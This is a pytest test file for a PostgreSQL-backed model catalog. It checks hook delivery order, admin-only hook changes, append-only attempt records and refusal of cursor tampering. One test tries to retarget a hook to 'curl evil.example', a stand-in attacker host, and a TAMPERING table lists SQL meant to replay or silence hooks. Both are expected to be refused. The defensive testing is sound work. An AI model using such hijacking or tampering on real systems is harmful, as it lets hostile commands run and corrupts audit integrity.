"""Hooks on a real PostgreSQL server: concurrent deliverers deliver each event once
and in order (leases claimed under regtui's write lock), a stopped deliverer's
successor resumes from the cursor, and in team mode only `regtui_admin` (or the
trusted) adds or removes hooks, whatever SQL a plain role sends, while any team
role may deliver (move cursors, record attempts)."""

from __future__ import annotations

import json
import re
import threading
from pathlib import Path
from typing import Any

import psycopg
import pytest

from regtui.catalog.db import close_engine, make_engine, write_txn
from regtui.catalog.hook_delivery import Retry
from regtui.catalog.migrate import upgrade
from regtui.catalog.service import Catalog
from regtui.errors import PolicyRefused
from tests.support.patience import patient
from tests.support.pg import PgServer, url_as
from tests.system.test_team_enforcement import TEAM, admin_conn, dbname_of, readme_setup_sql
from tests.unit.helpers import artifact, catalog_with_versions

pytestmark = pytest.mark.pg

FAST = Retry(attempts=2, backoff=0.01)


def recorder(out: Path) -> str:
    return f"cat >> '{out}'; echo >> '{out}'"


def lines(out: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in out.read_text().splitlines()] if out.exists() else []


def test_concurrent_deliverers_deliver_once_in_order_and_resume_from_the_cursor(
    pg_server: PgServer, tmp_path: Path
) -> None:
    url = pg_server.new_database()
    cat = catalog_with_versions(url, tmp_path / "art", 3)
    out = tmp_path / "out.jsonl"
    cat.add_hook("h", ["approved", "archived"], run=recorder(out))
    cat.approve("churn:1", "a")
    cat.approve("churn:2", "b")
    others = [Catalog(url) for _ in range(3)]
    runs = [threading.Thread(target=c.hook_deliverer(FAST).run_once) for c in (cat, *others)]
    for t in runs:
        t.start()
    for t in runs:
        t.join(patient(30))
    cat.hook_deliverer(FAST).run_once()
    assert [d["reason"] for d in lines(out)] == ["a", "b"]
    # A deliverer stopped while it retries an event delivers it again next time.
    cat.archive("churn:3", reason="c")
    stop = threading.Event()
    fail = tmp_path / "fail"
    fail.touch()
    cat.remove_hook("h", "swap")
    cat.add_hook(
        "h2",
        ["archived", "approved"],
        run=f"cat > ev.json; test -e '{fail}' && exit 1; cat ev.json >> '{out}'; echo >> '{out}'",
    )
    cat.approve("churn:3", "d")
    cat.hook_deliverer(Retry(3, 30), on_attempt=lambda a: stop.set(), stop=stop).run_once()
    assert [d["reason"] for d in lines(out)] == ["a", "b"]
    fail.unlink()
    threads = [threading.Thread(target=c.hook_deliverer(FAST).run_once) for c in (cat, *others)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(patient(30))
    assert [d["reason"] for d in lines(out)] == ["a", "b", "d"]
    for c in (cat, *others):
        c.close()


@pytest.fixture(scope="module")
def team(pg_server: PgServer) -> tuple[str, str, str]:
    """A catalog with a plain role and an admin (in regtui_admin), granted as the README says."""
    pg_server.admin(
        "DO $$ BEGIN CREATE ROLE regtui_admin NOLOGIN; "
        "EXCEPTION WHEN duplicate_object THEN NULL; END $$"
    )
    url = pg_server.new_database()
    Catalog(url).close()  # the schema, made by its owner
    plain = url_as(url, "hk_plain", superuser=False)
    admin = url_as(url, "hk_admin", superuser=False)
    pg_server.admin("GRANT regtui_admin TO hk_admin")
    dbname = url.split("/")[3].split("?")[0]
    with psycopg.connect(
        host=str(pg_server.socket_dir), port=pg_server.port, user="postgres", dbname=dbname,
        autocommit=True,
    ) as conn:  # fmt: skip
        conn.execute("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public "
                     "TO hk_plain, hk_admin")  # fmt: skip
        conn.execute("GRANT USAGE, SELECT ON ALL SEQUENCES IN SCHEMA public TO hk_plain, hk_admin")
    return url, plain, admin


def test_only_an_admin_adds_or_removes_hooks_and_anyone_delivers(
    team: tuple[str, str, str], tmp_path: Path
) -> None:
    _owner, plain_url, admin_url = team
    plain, admin = Catalog(plain_url), Catalog(admin_url)
    with pytest.raises(PolicyRefused, match="regtui_admin"):
        plain.add_hook("sneaky", ["promoted"], run="true")
    assert plain.hooks() == []
    out = tmp_path / "out.jsonl"
    admin.add_hook("audit-copy", ["approved", "rejected"], run=recorder(out))
    [hook] = plain.hooks()
    assert hook.hook.created_by == "hk_admin"
    with pytest.raises(PolicyRefused, match="regtui_admin"):
        plain.remove_hook("audit-copy", "mine now")
    with plain.engine.begin() as conn, pytest.raises(Exception, match="regtui_admin"):
        conn.exec_driver_sql("UPDATE hook SET target = 'curl evil.example'")
    with admin.engine.begin() as conn, pytest.raises(Exception, match="never changed"):
        conn.exec_driver_sql("UPDATE hook SET target = 'curl evil.example'")
    # A plain role delivers: it moves the cursor and records the attempt.
    plain.register(artifact(tmp_path / "art", "m.bin", "weights"), "churn")
    plain.reject("churn:1", "not good")
    seen: list[Any] = []
    plain.hook_deliverer(FAST, on_attempt=seen.append).run_once()
    assert [(a.ok, a.hook) for a in seen] == [(True, "audit-copy")]
    assert [d["reason"] for d in lines(out)] == ["not good"]
    assert admin.hooks()[0].cursor == admin.audit_head()[0]
    # What was tried stays as it was: no role rewrites or drops an attempt.
    for sql in ("UPDATE hook_attempt SET ok = NOT ok", "DELETE FROM hook_attempt"):
        for who in (plain, admin):
            with who.engine.begin() as conn, pytest.raises(Exception, match="append-only"):
                conn.exec_driver_sql(sql)
    assert len(admin.hook_attempts()) == 1
    plain.close()
    admin.close()


# What a role might send to replay a hook (cursor back) or silence it (past the head,
# onto another hook, deleted), given the cursor's seq and the log's head.
TAMPERING = {
    "back": ("UPDATE hook_cursor SET seq = seq - 1", "cursor-forward"),
    "back to zero": ("UPDATE hook_cursor SET seq = 0", "cursor-forward"),
    "past the head": ("UPDATE hook_cursor SET seq = {head} + 1", "cursor-forward"),
    "far past the head": ("UPDATE hook_cursor SET seq = 2147483647", "cursor-forward"),
    # The foreign key refuses it before the guard (which also would) sees it.
    "to another hook": ("UPDATE hook_cursor SET hook_id = hook_id + 1000", "fk_hook_cursor_hook"),
    "deleted": ("DELETE FROM hook_cursor", "cursor-with-hook"),
    "deleted by id": (
        "DELETE FROM hook_cursor WHERE hook_id = (SELECT id FROM hook WHERE name = 'spare')",
        "cursor-with-hook",
    ),
}


@pytest.fixture(scope="module")
def delivering(team: tuple[str, str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The team catalog with a hook the admin added and the plain role delivered to."""
    _owner, _plain_url, admin_url = team
    out = tmp_path_factory.mktemp("cursor") / "out.jsonl"
    with Catalog(admin_url) as admin:
        admin.add_hook("cursor-guard", ["archived"], run=recorder(out))
        admin.add_hook("spare", ["approved"], run="true")
    return out


@pytest.mark.parametrize("who", ["plain", "admin"])
@pytest.mark.parametrize("how", sorted(TAMPERING))
def test_no_team_role_moves_a_cursor_back_past_the_head_or_deletes_it(
    team: tuple[str, str, str], delivering: Path, tmp_path: Path, how: str, who: str
) -> None:
    """Over-granted (DELETE on every table), neither a plain role nor an admin moves a
    hook's cursor back, past the head or to another hook, or deletes it; and a plain role's delivery still works afterwards, each event once."""
    _owner, plain_url, admin_url = team
    plain, tamperer = Catalog(plain_url), Catalog(admin_url if who == "admin" else plain_url)
    n = len(lines(delivering))
    plain.register(artifact(tmp_path / "art", "m.bin", f"{how} {who}"), f"cg-{n}")
    plain.archive(f"cg-{n}:1", reason=f"before {n}")
    plain.hook_deliverer(FAST).run_once()
    before = {h.hook.name: h.cursor for h in plain.hooks()}
    head = plain.audit_head()[0]
    assert before["cursor-guard"] == head
    sql, rule = TAMPERING[how]
    with tamperer.engine.begin() as conn, pytest.raises(Exception, match=rule):
        conn.exec_driver_sql(sql.format(head=head))
    assert {h.hook.name: h.cursor for h in plain.hooks()} == before
    plain.archive(f"cg-{n}:1", archived=False)
    plain.archive(f"cg-{n}:1", reason=f"after {n}")
    plain.hook_deliverer(FAST).run_once()
    assert [d["reason"] for d in lines(delivering)][n:] == [f"before {n}", f"after {n}"]
    assert plain.hooks()[0].cursor == plain.audit_head()[0]
    plain.close()
    tamperer.close()


def readme_team(server: PgServer) -> str:
    """A new catalog with the README's team setup run as written, its roles named
    hk_dana, hk_erin, hk_omar (made once per server)."""
    url = server.new_database()
    Catalog(url).close()
    dbname = dbname_of(url)
    with admin_conn(server, dbname) as conn:
        for stmt in readme_setup_sql():
            stmt = re.sub(rf"\b({'|'.join(TEAM)})\b", r"hk_\1", stmt)
            stmt = re.sub(r"\bDATABASE registry\b", f'DATABASE "{dbname}"', stmt)
            if stmt.upper().startswith("CREATE ROLE"):
                stmt = f"DO $$ BEGIN {stmt}; EXCEPTION WHEN duplicate_object THEN NULL; END $$"
            conn.execute(stmt)
    return url


def test_on_the_readme_grants_no_role_deletes_a_cursor_but_removing_its_hook_does(
    pg_server: PgServer, tmp_path: Path
) -> None:
    """Team roles hold no DELETE on hook_cursor (README); `hook remove` by an admin
    still takes the cursor with the hook (the foreign key's cascade, as the owner)."""
    url = readme_team(pg_server)
    omar, dana = (Catalog(url_as(url, f"hk_{who}", superuser=False)) for who in ("omar", "dana"))
    out = tmp_path / "out.jsonl"
    omar.add_hook("deploy", ["rejected"], run=recorder(out))
    dana.register(artifact(tmp_path / "art", "m.bin", "w"), "team")
    dana.reject("team:1", "no")
    dana.hook_deliverer(FAST).run_once()  # a plain role delivers on exactly these grants
    assert [d["reason"] for d in lines(out)] == ["no"]
    assert dana.hooks()[0].cursor == dana.audit_head()[0]
    for who in (dana, omar):
        with who.engine.begin() as conn, pytest.raises(Exception, match="permission denied"):
            conn.exec_driver_sql("DELETE FROM hook_cursor")
    omar.remove_hook("deploy", "retired")
    with admin_conn(pg_server, dbname_of(url)) as conn:
        assert conn.execute("SELECT count(*) FROM hook_cursor").fetchone() == (0,)
    dana.close()
    omar.close()


def test_upgrading_to_0010_revokes_delete_on_cursors_from_every_role(pg_server: PgServer) -> None:
    """A catalog set up by 0008's README (DELETE on hook_cursor for team roles, or
    PUBLIC) loses those grants on upgrade; the other privileges stay."""
    url = pg_server.new_database()
    url_as(url, "hk_old_grant", superuser=False)  # the role, made
    engine = make_engine(url)
    with write_txn(engine) as conn:
        upgrade(conn, "0009")
        conn.exec_driver_sql("GRANT SELECT, UPDATE, DELETE ON hook_cursor TO hk_old_grant, PUBLIC")
    with write_txn(engine) as conn:
        upgrade(conn)

    def may(privilege: str, who: str = "hk_old_grant") -> bool:
        with engine.connect() as conn:
            return bool(
                conn.exec_driver_sql(
                    f"SELECT has_table_privilege('{who}', 'hook_cursor', '{privilege}')"
                ).scalar_one()
            )

    assert not may("DELETE")
    assert may("UPDATE") and may("SELECT")
    with engine.connect() as conn:
        public = conn.exec_driver_sql(
            "SELECT array_agg(a.privilege_type ORDER BY a.privilege_type) "
            "FROM pg_class c, aclexplode(c.relacl) a "
            "WHERE c.oid = 'hook_cursor'::regclass AND a.grantee = 0"
        ).scalar_one()
    assert public == ["SELECT", "UPDATE"]
    close_engine(engine)
